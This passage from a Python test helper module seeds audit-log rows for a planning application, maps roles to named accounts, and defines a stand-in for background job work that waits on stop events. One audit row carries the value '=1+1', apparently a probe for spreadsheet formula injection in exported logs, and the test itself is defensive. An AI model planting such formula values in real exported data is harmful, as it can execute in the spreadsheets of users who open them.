            Action.LOGIN,
            False,
            {"detail": "wrong password"},
        ),
        (midnight, "张三", Action.LOGIN, True, {}),
        (
            midnight + timedelta(hours=10),
            "张三",
            Action.SAVE,
            True,
            {"scenario_id": scenario_id, "scenario_version": 2, "detail": "=1+1"},
        ),
        (
            midnight + timedelta(hours=11),
            "李四",
            Action.DELETE,
            False,
            {"scenario_id": 999, "plan_id": 7, "detail": "无权限 not permitted"},
        ),
    ]
    for at, user_name, action, ok, fields in rows:
        with mock.patch.object(repository, "_now", return_value=at):
            store.add_audit(user_name, action, ok, **fields)


# -- who acts, and work that runs until stopped (issue 17: permissions, job owners) ---------

ROLE_NAMES = {
    Role.PRODUCER: "王统筹",
    Role.BASE_MANAGER: "李基地",
    Role.HEAD: "周主管",
    Role.VIEWER: "赵只读",
}
"""The name of each role's account in :func:`account_of`."""


def account_of(role: Role, name: str | None = None) -> Account:
    """An account of ``role``, not stored: 王统筹 producer, 李基地 base manager (of B1),
    周主管 head, 赵只读 viewer, unless ``name`` says otherwise."""
    bases = ("B1",) if role is Role.BASE_MANAGER else ()
    return Account(name or ROLE_NAMES[role], role, bases)


def held_work(result: object, release: Any = None, longest: float = 30.0) -> Any:
    """A stand-in for a background job's work (``plan_scenario``, ``plan_pooling``,
    ``run_sweep``, ``capacity_report``) that holds until the job is stopped (the ``stop``
    event it is given) or ``release`` (a ``threading.Event``) is set — at most ``longest``
    seconds — then returns ``result``."""

    def work(*args: object, stop: Any = None, **kwargs: object) -> object:
        held = [event for event in (stop, release) if event is not None]
        waited = 0.0
        while held and not any(event.is_set() for event in held) and waited < longest:
            held[0].wait(0.02)
            waited += 0.02
        return result

    return work
